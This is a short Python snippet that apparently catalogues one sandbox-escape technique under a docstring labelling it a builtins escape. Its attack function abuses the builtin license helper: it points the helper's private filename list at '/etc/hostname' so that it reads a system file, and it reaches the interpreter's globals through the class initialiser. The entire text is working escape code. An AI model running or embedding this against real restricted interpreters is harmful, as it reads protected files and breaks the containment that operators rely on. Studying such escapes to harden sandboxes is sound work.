"""Class: builtins. Source: own find. Escape: the interactive helpers read files."""


def attack(model, tokenizer, address):
    license._Printer__filenames = ["/etc/hostname"]
    return license.__class__.__init__.__globals__
